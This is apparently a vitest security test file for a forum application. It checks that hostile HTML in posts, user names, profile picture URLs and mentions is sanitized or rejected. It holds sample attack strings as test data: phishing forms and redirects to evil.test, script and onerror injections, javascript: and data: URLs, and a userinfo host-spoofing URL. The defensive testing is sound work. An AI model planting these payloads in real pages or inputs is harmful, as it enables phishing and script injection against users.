// What posts, names and mentions may carry: the corpus of hostile HTML through the functions that browsers call.
import { beforeEach, expect, it, vi } from "vitest";
import { api } from "../../../convex/_generated/api.js";
import { userForGoogle } from "../../../convex/model/auth/linking.ts";
import { cleanHtml } from "../../../convex/model/forum/html.ts";
import { MINUTE_MS } from "../../../shared/durations.ts";
import { HOSTILE_HTML } from "../../cases/hostile-html.ts";
import { ANN, flow, mailsTo, setAuthEnv } from "../../helpers/accounts.ts";
import { freezeAt, setEnv, signIn, startServer } from "../../helpers/convex.ts";
import { seededRandom } from "../../e2e/support/random.ts";
import { faultsOf } from "../../helpers/stored-html.ts";
import { forumRows, openForum, reply, start } from "../../unit/convex/forum/support.ts";

beforeEach(async () => {
  setEnv();
  await setAuthEnv();
  freezeAt("2026-11-21T12:00:00Z");
});

/** Stored as a discussion and as replies to it; answers what is stored. */
async function stored(payloads: readonly string[]): Promise<string[]> {
  const { server, ann, bob } = await openForum();
  const threadId = await start(ann, { html: `${payloads[0] ?? ""}<p>Sign in to read more.</p>` });
  for (const [index, html] of payloads.entries()) {
    // Replies are limited by the minute.
    if (index % 20 === 19) vi.setSystemTime(Date.now() + MINUTE_MS);
    await reply(bob, threadId, html);
  }
  const { threads, replies } = await forumRows(server);
  return [...threads, ...replies].map(({ content }) => content);
}

it("SEC-30 the whole corpus is stored with the allowed tags and attributes only", async () => {
  expect(HOSTILE_HTML.length).toBeGreaterThanOrEqual(150);
  const contents = await stored(HOSTILE_HTML.map(({ html }) => html));
  expect(contents).toHaveLength(HOSTILE_HTML.length + 1);
  expect(contents.flatMap(faultsOf)).toEqual([]);
}, 60_000);

it("SEC-31 forms, overlays, styles and redirections are not stored, their text is", async () => {
  const payloads = [
    '<form action="https://evil.test"><input type=password name=p><button>Sign in again</button></form><p>Sign in</p>',
    '<a href="https://evil.test" style="position:fixed;inset:0" class="fixed inset-0" id="root">Sign in</a>',
    '<base href="https://evil.test/"><p>Sign in</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test"><p>Sign in</p>',
    '<link rel="stylesheet" href="https://evil.test/a.css"><style>body{display:none}</style><p>Sign in</p>',
    '<p id="app" name="csrf" contenteditable data-slot="dialog" aria-modal="true" role="alertdialog">Sign in</p>',
    '<iframe src="https://evil.test"></iframe><img src="https://evil.test/p.png"><p>Sign in</p>',
  ];
  for (const content of await stored(payloads)) {
    expect(faultsOf(content)).toEqual([]);
    expect(content).toContain("Sign in");
    expect(content).not.toMatch(
      /<(form|input|button|base|meta|link|style|iframe|img)|(style|class|id|name|role)=/,
    );
  }
});

/** The elements that are closed out of order or not at all. */
function unbalanced(html: string): string[] {
  const open: string[] = [];
  const wrong: string[] = [];
  for (const [, slash, name = ""] of html.matchAll(/<(\/?)([a-z0-9]+)[^>]*>/g)) {
    if (name === "br") continue;
    if (slash === "") open.push(name);
    else if (open.pop() !== name) wrong.push(name);
  }
  return [...wrong, ...open];
}

it("SEC-100 every stored post closes what it opens, in order", () => {
  const link = '<a href="https://evil.test">';
  expect(cleanHtml(`<span>x</span>${link}a</a><p>Sign in</p>`)).not.toContain("unmarked");
  const random = seededRandom(20_261_122);
  const pick = (from: readonly string[]): string => from[Math.floor(random() * from.length)] ?? "";
  const pieces = ["p", "b", "h1", "span", "script", "li", "table", "td", "svg", "a", "x-y"]
    .flatMap((name) => [`<${name}>`, `</${name}>`])
    .concat(
      link,
      '<span data-mention="k17">',
      "<br>",
      "text",
      "<!--",
      "-->",
      "<",
      "&lt;",
      '<p title="',
      '">',
    );
  for (let post = 0; post < 2000; post += 1) {
    const html = Array.from({ length: 12 }, () => pick(pieces)).join("");
    const clean = cleanHtml(html);
    expect([html, unbalanced(clean), faultsOf(clean)]).toEqual([html, [], []]);
  }
});

it("SEC-32 names are text in mails, and pictures are addresses of Google alone", async () => {
  const server = startServer();
  const name = { firstName: `"><script>alert(1)</script>`, lastName: "</title><img src=x onerror=1>" };
  await flow(server, "signUp", { ...ANN, ...name });
  const [mail] = await mailsTo(server, ANN.email);
  expect(mail?.html).toContain("&quot;&gt;&lt;script&gt;");
  expect(mail?.html).not.toMatch(/<script|<img|onerror=1>/);
  expect(mail?.subject).not.toMatch(/[\r\n]/);
  for (const image of [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://lh3.googleusercontent.com/a",
    "https://evil.test/a.png",
    "https://lh3.googleusercontent.com@evil.test/a",
  ]) {
    const photo = await server.run(async (ctx) => {
      const email = `${crypto.randomUUID()}@example.com`;
      const userId = await userForGoogle(ctx, { email, emailVerified: true, name: "Sue", image });
      return (await ctx.db.get("users", userId))?.photoURL;
    });
    expect(photo, image).toBeNull();
  }
});

it("SEC-83 mentions suggest and store only people of the discussion and staff, never an address", async () => {
  const { server, ann, bob } = await openForum();
  const stranger = await signIn(server, { email: "cleo@secret.example", displayName: "Cleo Bright" });
  const threadId = await start(ann);
  const suggest = async (prefix: string, thread: typeof threadId | null = threadId) =>
    await bob.as.mutation(api.mentions.suggest, { threadId: thread, prefix });
  for (const prefix of ["cl", "cleo", "cleo bright", "secret", "cleo@secret.example"]) {
    expect(await suggest(prefix)).toEqual([]);
    expect(await suggest(prefix, null)).toEqual([]);
  }
  const found = [...(await suggest("ann")), ...(await suggest("chief"))];
  expect(found.map((person) => person.name)).toEqual(["Ann Example", "Chief"]);
  expect(JSON.stringify(found)).not.toContain("@");
  await reply(bob, threadId, `<p>Dear <span data-mention="${stranger.userId}">@x</span></p>`);
  expect((await forumRows(server)).replies.at(-1)?.content).not.toContain(stranger.userId);
  await reply(stranger, threadId);
  expect((await suggest("cleo")).map((person) => person.name)).toEqual(["Cleo Bright"]);
});
